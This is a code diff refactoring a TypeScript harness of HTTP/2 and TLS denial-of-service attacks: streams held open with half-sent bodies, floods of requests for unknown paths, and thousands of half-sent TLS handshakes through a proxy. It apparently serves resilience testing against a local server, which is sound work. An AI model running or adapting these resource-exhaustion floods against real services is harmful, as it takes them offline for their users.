@@ -1,7 +1,6 @@
 import { connect as connectHttp2 } from "node:http2";
 import { connect, type Socket } from "node:net";
 import { setTimeout as pause } from "node:timers/promises";
-import { connect as connectTls } from "node:tls";
 
 /** The attacked URL, and when the attack ends. */
 interface Target {
@@ -81,14 +80,11 @@ const MESSAGE = {
 export const proxiedAttacks: readonly Attack[] = [
   {
     name: "through a proxy: half-sent bodies, 20 × 200 streams",
-    run: (target) => holdStreams(target, { connections: 20, streams: 200 }, MESSAGE, HALF_SENT),
+    run: (target) => holdStreams(target, 200, MESSAGE, HALF_SENT),
   },
   {
     name: "through a proxy: unknown addresses, 20 × 250 streams",
-    run(target) {
-      const headers = { ":path": "/nope", "accept-encoding": "br" };
-      return holdStreams(target, { connections: 20, streams: 250 }, headers, undefined);
-    },
+    run: (target) => holdStreams(target, 250, { ":path": "/nope", "accept-encoding": "br" }),
   },
   // The record header of a ClientHello, whose content never comes.
   hold("through a proxy: half-sent TLS handshakes, 4000 connections", 4000, (socket) => {
@@ -133,26 +129,16 @@ function repeatRequest(target: Target, connections: number, request: string): Pr
   });
 }
 
-/** Opens a TLS connection for HTTP/2 from the attacker's address. */
-function openTls(url: URL) {
-  const port = Number(url.port);
-  return connectTls({
-    socket: connect({ port, host: "127.0.0.1", localAddress: ATTACKER }),
-    servername: url.hostname,
-    ALPNProtocols: ["h2"],
-    rejectUnauthorized: false,
-  });
-}
-
-/** Keeps a number of HTTP/2 streams open, replacing those that end. */
+/** Keeps so many HTTP/2 streams open on each of 20 connections, replacing those that end. */
 async function holdStreams(
   { url, isOver }: Target,
-  count: { connections: number; streams: number },
+  count: number,
   headers: Record<string, string>,
-  body: string | undefined,
+  body?: string,
 ): Promise<void> {
-  const sessions = Array.from({ length: count.connections }, () => {
-    const session = connectHttp2(url.origin, { createConnection: () => openTls(url) });
+  const sessions = Array.from({ length: 20 }, () => {
+    const options = { localAddress: ATTACKER, family: 4, rejectUnauthorized: false };
+    const session = connectHttp2(url.origin, options);
     session.on("error", () => {});
     const open = () => {
       if (isOver() || session.destroyed || session.closed) return;
@@ -161,7 +147,7 @@ async function holdStreams(
       stream.resume();
       if (body) stream.write(body);
     };
-    for (let opened = 0; opened < count.streams; opened += 1) open();
+    for (let opened = 0; opened < count; opened += 1) open();
     return session;
   });
   while (!isOver()) await pause(20);
